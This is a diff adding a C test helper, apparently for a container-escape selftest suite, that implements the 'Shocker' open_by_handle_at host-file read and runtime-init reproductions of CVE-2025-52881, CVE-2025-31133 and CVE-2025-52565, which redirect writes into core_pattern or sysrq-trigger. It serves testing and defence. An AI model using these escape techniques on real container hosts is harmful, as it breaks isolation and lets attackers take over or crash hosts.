@@ -1,0 +1,259 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * escape VERB...: what selftests/escapes needs and no shell can do, in a container or on the
+ * host.  Linked statically, so that it runs in any container.
+ *
+ *   serve SOCKET TEXT      be a container runtime's daemon, in the background: who connects to
+ *                          SOCKET is answered TEXT
+ *   ask SOCKET             connect there, and print what is answered
+ *   shocker MOUNTED PATH   print the file PATH of the file system that MOUNTED lies on, however
+ *                          little of it is mounted: from its root, by a handle made up here
+ *   init HOW ROOT TEXT     play the init of a runtime that is made to write TEXT elsewhere: see
+ *                          redirections[]; ROOT is an empty directory
+ *
+ * Prints the name of the error, and exits with 1, if it fails.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define ARRAY_SIZE(array) (sizeof(array) / sizeof((array)[0]))
+
+/* Of ext4: the inode of the root, and the kind of handle that is an inode and a generation. */
+#define EXT4_ROOT_INO 2
+#define HANDLE_INO_GEN 1
+
+static void fail(const char *what)
+{
+	printf("%s: %s\n", what, strerrorname_np(errno));
+	exit(1);
+}
+
+static long must(long ret, const char *what)
+{
+	if (ret < 0)
+		fail(what);
+	return ret;
+}
+
+static void print_all(int fd)
+{
+	char buf[4096];
+	ssize_t n;
+
+	while ((n = must(read(fd, buf, sizeof(buf)), "read")) > 0)
+		fwrite(buf, 1, n, stdout);
+}
+
+static struct sockaddr_un address(const char *path)
+{
+	struct sockaddr_un addr = { .sun_family = AF_UNIX };
+
+	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
+	return addr;
+}
+
+static int serve(char **args)
+{
+	struct sockaddr_un addr = address(args[0]);
+	int fd = must(socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), "socket");
+
+	unlink(args[0]);
+	must(bind(fd, (struct sockaddr *)&addr, sizeof(addr)), "bind");
+	must(listen(fd, 8), "listen");
+	if (must(fork(), "fork"))
+		return 0;
+	must(daemon(0, 0), "daemon");
+	for (;;) {
+		int peer = accept(fd, NULL, NULL);
+
+		if (peer < 0)
+			continue;
+		dprintf(peer, "%s\n", args[1]);
+		close(peer);
+	}
+}
+
+static int ask(char **args)
+{
+	struct sockaddr_un addr = address(args[0]);
+	int fd = must(socket(AF_UNIX, SOCK_STREAM, 0), "socket");
+
+	must(connect(fd, (struct sockaddr *)&addr, sizeof(addr)), "connect");
+	print_all(fd);
+	return 0;
+}
+
+static int shocker(char **args)
+{
+	struct {
+		struct file_handle head;
+		uint32_t ino, generation;
+	} handle = { { .handle_bytes = 8, .handle_type = HANDLE_INO_GEN }, EXT4_ROOT_INO, 0 };
+	int mounted = must(open(args[0], O_RDONLY), "open");
+	int root = must(open_by_handle_at(mounted, &handle.head, O_RDONLY), "open_by_handle_at");
+
+	print_all(must(openat(root, args[1], O_RDONLY), "openat"));
+	return 0;
+}
+
+/* A path below the container's root; the four last ones stay valid. */
+static const char *in(const char *root, const char *name)
+{
+	static char paths[4][256];
+	static unsigned int next;
+	char *path = paths[next++ % ARRAY_SIZE(paths)];
+
+	snprintf(path, sizeof(paths[0]), "%s%s", root, name);
+	return path;
+}
+
+static void bind_to(const char *from, const char *to)
+{
+	must(mount(from, to, NULL, MS_BIND, NULL), "bind mount");
+}
+
+static void write_to(const char *path, const char *text)
+{
+	int fd = must(open(path, O_WRONLY), "open");
+
+	must(write(fd, text, strlen(text)), "write");
+	close(fd);
+}
+
+/* Make /proc/sys read-only, as runtimes do, and become the container. */
+static void enter(const char *root)
+{
+	const char *sys = in(root, "/proc/sys");
+
+	bind_to(sys, sys);
+	must(mount(NULL, sys, NULL, MS_BIND | MS_REMOUNT | MS_RDONLY, NULL), "remount");
+	must(chdir(root), "chdir");
+	must(syscall(SYS_pivot_root, ".", "."), "pivot_root");
+	must(umount2(".", MNT_DETACH), "umount");
+	must(chdir("/"), "chdir");
+}
+
+/* CVE-2025-52881: a label is written, into what a race has put over the file for it. */
+static void label(const char *root, const char *text)
+{
+	bind_to(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/proc/thread-self/attr/exec"));
+	write_to(in(root, "/proc/thread-self/attr/exec"), text);
+}
+
+/* The same with a number, 1000: to SysRq its first digit is a key. */
+static void score(const char *root, const char *text)
+{
+	bind_to(in(root, "/proc/sysrq-trigger"), in(root, "/proc/self/oom_score_adj"));
+	write_to(in(root, "/proc/self/oom_score_adj"), text);
+}
+
+/* CVE-2025-31133: masks are bind mounts of /dev/null, for which the image has a symlink. */
+static void mask(const char *root, const char *text)
+{
+	must(symlink(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/dev/null")), "symlink");
+	bind_to(in(root, "/dev/null"), in(root, "/proc/timer_list"));
+	enter(root);
+	write_to("/proc/timer_list", text);
+}
+
+/* CVE-2025-52565: a terminal is mounted as /dev/console, before anything is masked. */
+static void console(const char *root, const char *text)
+{
+	must(symlink(in(root, "/proc/sys/kernel/core_pattern"), in(root, "/dev/pts0")), "symlink");
+	close(must(open(in(root, "/dev/console"), O_CREAT | O_WRONLY, 0600), "open"));
+	bind_to(in(root, "/dev/pts0"), in(root, "/dev/console"));
+	enter(root);
+	write_to("/dev/console", text);
+}
+
+/* Nothing is led astray: what an init does must work, up to its own command's write. */
+static void straight(const char *root, const char *text)
+{
+	must(mknod(in(root, "/dev/null"), S_IFCHR | 0666, 1 << 8 | 3), "mknod");
+	bind_to(in(root, "/dev/null"), in(root, "/proc/timer_list"));
+	write_to(in(root, "/proc/self/oom_score_adj"), "1000");
+	enter(root);
+	write_to("/proc/timer_list", text);
+}
+
+static const struct redirection {
+	const char *name;
+	void (*run)(const char *root, const char *text);
+} redirections[] = {
+	{ "label", label },
+	{ "score", score },
+	{ "mask", mask },
+	{ "console", console },
+	{ "straight", straight },
+};
+
+/* As runc and crun do it, in the container's cgroup already. */
+static void be_init(const struct redirection *redirection, char **args)
+{
+	const char *root = args[1];
+
+	must(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), "make private");
+	must(mount(root, root, NULL, MS_BIND | MS_REC, NULL), "bind mount");
+	mkdir(in(root, "/proc"), 0755);
+	mkdir(in(root, "/dev"), 0755);
+	must(mount("proc", in(root, "/proc"), "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL),
+	     "mount of proc");
+	must(mount("tmpfs", in(root, "/dev"), "tmpfs", MS_NOSUID, "mode=755"), "mount of tmpfs");
+	redirection->run(root, args[2]);
+	puts("written");
+	exit(0);
+}
+
+static int init(char **args)
+{
+	const int namespaces = CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWUTS | CLONE_NEWIPC |
+			       CLONE_NEWNET | CLONE_NEWCGROUP;
+	unsigned int i;
+	int status;
+
+	for (i = 0; i < ARRAY_SIZE(redirections); i++) {
+		if (strcmp(args[0], redirections[i].name) != 0)
+			continue;
+		must(unshare(namespaces), "unshare");
+		if (!must(fork(), "fork"))
+			be_init(&redirections[i], args);
+		must(wait(&status), "wait");
+		return status ? 1 : 0;
+	}
+	return 2;
+}
+
+static const struct verb {
+	const char *name;
+	int nr_args;
+	int (*run)(char **args);
+} verbs[] = {
+	{ "serve", 2, serve },
+	{ "ask", 1, ask },
+	{ "shocker", 2, shocker },
+	{ "init", 3, init },
+};
+
+int main(int argc, char **argv)
+{
+	unsigned int i;
+
+	for (i = 0; argc > 1 && i < ARRAY_SIZE(verbs); i++) {
+		if (!strcmp(argv[1], verbs[i].name) && argc - 2 == verbs[i].nr_args)
+			return verbs[i].run(argv + 2);
+	}
+	fprintf(stderr, "usage: %s serve|ask|shocker|init ARGUMENT...\n", argv[0]);
+	return 2;
+}
